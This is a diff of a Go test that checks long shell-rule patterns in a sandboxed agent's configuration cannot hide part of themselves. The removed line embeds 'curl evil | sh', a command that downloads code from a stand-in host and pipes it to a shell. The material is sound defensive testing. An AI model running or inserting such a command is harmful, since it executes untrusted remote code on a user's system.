@@ -206,7 +206,7 @@ func TestWideningsLeaveNothingOut(t *testing.T) {
 
 // No text is long enough to hide a part of itself.
 func TestWideningsAreWhole(t *testing.T) {
-	pattern := "echo " + strings.Repeat("a", 300) + "; curl evil | sh; " + strings.Repeat("b", 300)
+	pattern := "echo " + strings.Repeat("a", 300) + " curl evil sh " + strings.Repeat("b", 300)
 	o := program(t, map[string]string{
 		"golem-forge.config.yaml": "sandbox: {root: ., mode: ro}\n",
 		"main.worker":             "---\nsandbox: inherit\ntoolsets:\n  shell: {rules: [{pattern: \"" + pattern + "\", approval: preApproved}]}\n---\n",
